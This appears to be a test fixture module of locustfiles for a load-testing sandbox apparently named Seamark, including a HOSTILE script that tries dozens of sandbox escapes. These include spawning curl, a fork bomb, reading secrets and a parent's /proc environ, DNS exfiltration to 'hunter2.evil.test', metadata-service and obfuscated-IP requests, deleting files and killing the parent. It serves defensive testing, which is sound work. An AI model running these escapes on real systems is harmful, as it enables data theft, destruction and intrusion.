"""Locustfiles as people write them, and as somebody writes them who wants out."""

from __future__ import annotations

PLAIN = '''
"""A locustfile as plain Locust takes it: nothing in it knows of Seamark."""
from gevent import monkey
monkey.patch_all()
from locust import FastHttpUser, HttpUser, between, constant, tag, task
print('{"kind": "end", "error": "printed"}')

class Shop(HttpUser):
    host = "http://elsewhere.test"
    wait_time = constant(0.05)

    def on_start(self):
        print("x" * 100_000)

    @task(3)
    @tag("slow")
    def predict(self):
        with self.client.post("/predict", json={"x": 1}, catch_response=True) as response:
            if response.status_code != 200:
                response.failure(f"got {response.status_code}")

class Fast(FastHttpUser):
    wait_time = constant(0.05)

    @task
    def predict(self):
        self.client.post("/fast", json={"x": 1}, headers={"x-team": "shop"})
'''

# Whose requests are numbered, and who sees the numbers.
NUMBERED = """
from locust import FastHttpUser, HttpUser, constant, events, task
SEEN = []

@events.request.add_listener
def note(context, **_):
    SEEN.append(context)

class Shop(HttpUser):
    wait_time = constant(0.1)

    @task
    def predict(self):
        with self.client.post("/caught", json={}, catch_response=True, context={"mine": 1}) as response:
            self.client.get("/within", headers={"Traceparent": "00-" + "a" * 32 + "-" + "b" * 16 + "-01"})
            response.failure("no")
        self.client.get("/plain", allow_redirects=False)
        if any(set(context) - {"mine"} for context in SEEN):
            raise ValueError(f"more in it than was given: {SEEN}")

class Fast(FastHttpUser):
    wait_time = constant(0.1)

    @task
    def predict(self):
        with self.client.get("/fast", catch_response=True) as response:
            response.success()
"""

SHAPED = """
from locust import FastHttpUser, LoadTestShape, task

class Shop(FastHttpUser):
    @task
    def predict(self):
        self.client.get("/")

class Steps(LoadTestShape):
    def tick(self):
        return (10_000, 10_000) if self.get_run_time() < 1.6 else None
"""

TROUBLED = """
import time
from locust import HttpUser, constant, events, task

class Shop(HttpUser):
    wait_time = constant(0.1)

    def on_start(self):
        self.count = 0

    @task
    def predict(self):
        self.client.get("/")
        self.count += 1
        if self.count == 2:
            bytearray(3 * 1024**3)
        if self.count == 4:
            raise KeyError("no such thing")
        if self.count == 6:
            self.environment.runner.quit()
"""

EXITS = """
import sys
from locust import HttpUser, constant, task

class Shop(HttpUser):
    wait_time = constant(0.1)

    @task
    def predict(self):
        self.client.get("/")
        sys.exit(0)
"""

ENDLESS = """
from locust import HttpUser, task

class Shop(HttpUser):
    @task
    def predict(self):
        self.client.get("/")
        while True:
            pass
"""

# Writes where only Seamark writes: whatever it finds open.
FORGES = """
import os, stat
from locust import HttpUser, task
for fd in range(3, 64):
    try:
        kind = os.fstat(fd).st_mode
        if stat.S_ISREG(kind):
            os.write(fd, len(b"junk").to_bytes(4, "big") + b"junk")
        elif stat.S_ISFIFO(kind):
            os.write(fd, b'{"kind": "end", "segments": "all", "error": 7}\\n[]\\n{"kind": "progress"}\\n')
    except OSError:
        pass

class Shop(HttpUser):
    @task
    def predict(self):
        self.client.get("/")
"""

# What is tried, each by its name; FACTS says where things are. Every one must come to nothing.
HOSTILE = """
import ctypes, gc, http.client, json, os, resource, signal, socket, subprocess, sys, types, urllib.request
from importlib.machinery import ExtensionFileLoader, ModuleSpec
from pathlib import Path
import gevent.os, gevent.subprocess, requests, urllib3
from geventhttpclient import HTTPClient
from geventhttpclient.useragent import UserAgent
from locust import HttpUser, constant, task

HERE = Path(__file__).parent
FACTS = json.loads((HERE / "facts.json").read_text())
OTHER, OTHER_PORT, PORT, SECRET = FACTS["other"], FACTS["other_port"], FACTS["port"], FACTS["secret"]

def connect(address, family=socket.AF_INET):
    opened = socket.socket(family)
    opened.settimeout(2)
    opened.connect(address)

def native(address):
    import _socket
    _socket.socket().connect(address)

class Liar(tuple):
    def __getitem__(self, index):
        return ("127.0.0.1", PORT)[index]

def zeromq():
    import zmq
    stream = zmq.Context().socket(zmq.STREAM)
    stream.setsockopt(zmq.RCVTIMEO, 1000)
    stream.connect(f"tcp://127.0.0.1:{OTHER_PORT}")
    return stream.recv()

def zeromq_of_locust():
    from locust.rpc import zmqrpc
    return zmqrpc.Client("127.0.0.1", OTHER_PORT, "me")

def zeromq_by_its_file(folder=None):
    package = Path(requests.__file__).parent.parent
    (file,) = (package / "zmq/backend/cython").glob("_zmq.*.so")
    if folder is not None:
        copy = Path(folder) / "harmless.so"
        copy.write_bytes(file.read_bytes())
        file = copy.absolute()
    loader = ExtensionFileLoader("harmless", str(file))
    return loader.create_module(ModuleSpec("harmless", loader, origin=str(file)))

def dns_datagram():
    from gevent.resolver.ares import Resolver
    return Resolver(servers=["127.0.0.1"], udp_port=OTHER_PORT, timeout=0.3, tries=1).gethostbyname("hunter2.test")

class Everything:
    def __contains__(self, other):
        return True

def open_up(found):
    # Puts Everything in the place of what looks like endpoints, wherever something leads there.
    for value in found:
        if type(value).__name__ == "Limits":
            object.__setattr__(value, "endpoints", Everything())
        for cell in (value.__closure__ or ()) if isinstance(value, types.FunctionType) else ():
            if isinstance(cell.cell_contents, frozenset) or type(cell.cell_contents).__name__ == "Limits":
                cell.cell_contents = types.SimpleNamespace(endpoints=Everything(), hosts=Everything())
    return native(("127.0.0.1", OTHER_PORT))

def limits_in_modules():
    return open_up([value for module in list(sys.modules.values()) for value in vars(module).values()])

def frames(frame):
    while frame:
        yield from (*frame.f_globals.values(), *frame.f_locals.values())
        frame = frame.f_back

def limits_in_a_traceback():
    try:
        native(("127.0.0.1", OTHER_PORT))
    except OSError as error:
        last = error.__traceback__
        while last.tb_next:
            last = last.tb_next
        return open_up(list(frames(last.tb_frame)))

class Spy(str):
    found = []
    def __str__(self):
        self.found.extend(frames(sys._getframe()))
        return "127.0.0.1"
    __repr__ = __hash__ = rstrip = startswith = __fspath__ = __str__

def limits_as_it_is_asked():
    for address in ((Spy("x"), OTHER_PORT), Spy("x")):
        try:
            native(address)
        except (OSError, TypeError):
            pass
    try:
        open(Spy("/x"))
    except (OSError, TypeError):
        pass
    return open_up(list(Spy.found))

def builtins_exchanged():
    import builtins
    held = builtins.type, builtins.len, builtins.any
    builtins.type, builtins.len, builtins.any = (lambda value: tuple), (lambda value: 2), (lambda values: True)
    try:
        return native(Liar(("127.0.0.1", OTHER_PORT)))
    finally:
        builtins.type, builtins.len, builtins.any = held

def code_exchanged():
    import seamark_load.sandbox
    seamark_load.sandbox.hook.__code__ = (lambda *a: None).__code__

ATTEMPTS = {
    "zeromq": zeromq,
    "zeromq again": lambda: sys.modules.pop("zmq", None) and None or zeromq(),
    "zeromq of Locust": zeromq_of_locust,
    "zeromq by its file": zeromq_by_its_file,
    "native code of its own": lambda: zeromq_by_its_file("."),
    "c-ares": dns_datagram,
    "c-ares by its own name": lambda: __import__("gevent.resolver.cares"),
    "libuv": lambda: __import__("gevent.libuv.loop"),
    "uvloop": lambda: __import__("uvloop").new_event_loop(),
    "schema from elsewhere": lambda: __import__("jsonschema_rs").validator_for({"$ref": OTHER}),
    "psycopg": lambda: __import__("psycopg").connect(f"host=127.0.0.1 port={OTHER_PORT}"),
    "flight": lambda: __import__("pyarrow.flight"),
    "grpc": lambda: __import__("grpc"),
    "fork by its function": lambda: __import__("_posixsubprocess").fork_exec,
    "limits in modules": limits_in_modules,
    "limits in a traceback": limits_in_a_traceback,
    "limits as it is asked": limits_as_it_is_asked,
    "builtins exchanged": builtins_exchanged,
    "code exchanged": code_exchanged,
    "all objects": lambda: open_up(gc.get_objects()),
    "who refers": lambda: open_up(gc.get_referrers(sys)),
    "what is referred to": lambda: open_up(gc.get_referents(sys.modules)),
    "requests": lambda: requests.get(OTHER, timeout=2),
    "urllib": lambda: urllib.request.urlopen(OTHER, timeout=2),
    "urllib3": lambda: urllib3.PoolManager().request("GET", OTHER, retries=False),
    "http.client": lambda: http.client.HTTPConnection("127.0.0.1", OTHER_PORT, timeout=2).request("GET", "/"),
    "geventhttpclient": lambda: HTTPClient.from_url(OTHER).get("/"),
    "geventhttpclient agent": lambda: UserAgent().urlopen(OTHER),
    "allowed as proxy": lambda: requests.get(OTHER, proxies={"http": FACTS["target"]}, timeout=2),
    "other as proxy": lambda: requests.get(FACTS["target"], proxies={"http": OTHER}, timeout=2),
    "socket": lambda: connect(("127.0.0.1", OTHER_PORT)),
    "_socket": lambda: native(("127.0.0.1", OTHER_PORT)),
    "create_connection": lambda: socket.create_connection(("127.0.0.1", OTHER_PORT), 2),
    "IPv4 in IPv6": lambda: connect(("::ffff:127.0.0.1", OTHER_PORT), socket.AF_INET6),
    "a tuple that lies": lambda: native(Liar(("127.0.0.1", OTHER_PORT))),
    "decimal": lambda: connect(("2130706433", PORT)),
    "octal": lambda: connect(("0177.0.0.1", PORT)),
    "decimal, native": lambda: native(("2130706433", PORT)),
    "metadata": lambda: requests.get("http://169.254.169.254/latest/meta-data/", timeout=2),
    "metadata, IPv6": lambda: connect(("::ffff:169.254.169.254", 80), socket.AF_INET6),
    "user name": lambda: requests.get(f"http://127.0.0.1:{PORT}@127.0.0.1:{OTHER_PORT}/", timeout=2),
    "other scheme": lambda: requests.get(f"https://127.0.0.1:{PORT}/", timeout=2, verify=False),
    "other name": lambda: requests.get(f"http://localhost:{PORT}/", timeout=2),
    "unicode": lambda: requests.get(f"http://\\u24db\\u24de\\u24d2al.test:{PORT}/", timeout=2),
    "datagram": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)),
    "secrets by DNS": lambda: socket.getaddrinfo("hunter2.evil.test", 80),
    "unix socket": lambda: connect(FACTS["unix"], socket.AF_UNIX),
    "listen": lambda: socket.socket().bind(("127.0.0.1", 0)),
    "subprocess": lambda: subprocess.run(["curl", OTHER]),
    "gevent.subprocess": lambda: gevent.subprocess.check_output(["true"]),
    "os.system": lambda: os.system("true"),
    "os.popen": lambda: os.popen("true").read(),
    "fork bomb": lambda: [os.fork() for _ in range(20)],
    "gevent.os": gevent.os.fork_and_watch,
    "posix_spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
    "exec": lambda: os.execv("/bin/true", ["true"]),
    "library": lambda: ctypes.CDLL("libc.so.6"),
    "function": lambda: ctypes.pythonapi.PyRun_SimpleString,
    "memory": lambda: ctypes.string_at(id(FACTS), 8),
    "interpreter": lambda: __import__("_xxsubinterpreters").create(),
    "kill the service": lambda: os.kill(os.getppid(), signal.SIGTERM),
    "kill the group": lambda: os.killpg(os.getppid(), signal.SIGTERM),
    "read": lambda: Path(SECRET).read_text(),
    "os.open": lambda: os.open(SECRET, os.O_RDONLY),
    "sqlite": lambda: __import__("sqlite3").connect(SECRET),
    "duckdb": lambda: __import__("duckdb").connect(),
    "order": lambda: open("../order.json").read(),
    "samples": lambda: open("../samples.bin").read(),
    "environment of the service": lambda: open(f"/proc/{os.getppid()}/environ").read(),
    "own memory": lambda: open("/proc/self/mem", "r+b"),
    "list": lambda: os.listdir(Path(SECRET).parent),
    "symbolic link": lambda: os.symlink(SECRET, "link"),
    "hard link": lambda: os.link(SECRET, "link"),
    "another locustfile": lambda: (HERE / "new.py").write_text("x"),
    "falsify samples": lambda: open("../samples.bin", "a"),
    "remove": lambda: os.remove(SECRET),
    "rename": lambda: os.rename(SECRET, "mine"),
    "truncate": lambda: os.truncate(SECRET, 0),
    "raise the limits": lambda: resource.setrlimit(resource.RLIMIT_AS, (2**40, 2**40)),
}
TRIED = {}
for name, attempt in ATTEMPTS.items():
    try:
        TRIED[name] = f"succeeded: {attempt()}"
    except BaseException as error:
        TRIED[name] = f"{type(error).__name__}: {error}"
LIMITS = {kind: resource.getrlimit(getattr(resource, kind)) for kind in dir(resource) if kind.startswith("RLIMIT_")}
HELD = [
    f"{module.__name__}.{name}"
    for module in list(sys.modules.values())
    for name, value in vars(module).items()
    if isinstance(value, types.BuiltinFunctionType) and value.__name__ == "fork_exec"
]
Path("tried.json").write_text(json.dumps({"tried": TRIED, "held": HELD, "environ": dict(os.environ), "limits": LIMITS}))

class Shop(HttpUser):
    wait_time = constant(0.1)

    @task
    def predict(self):
        self.client.get("/")
        self.client.get("/moved")
        self.client.get(OTHER)
"""

__all__ = ["ENDLESS", "EXITS", "FORGES", "HOSTILE", "NUMBERED", "PLAIN", "SHAPED", "TROUBLED"]
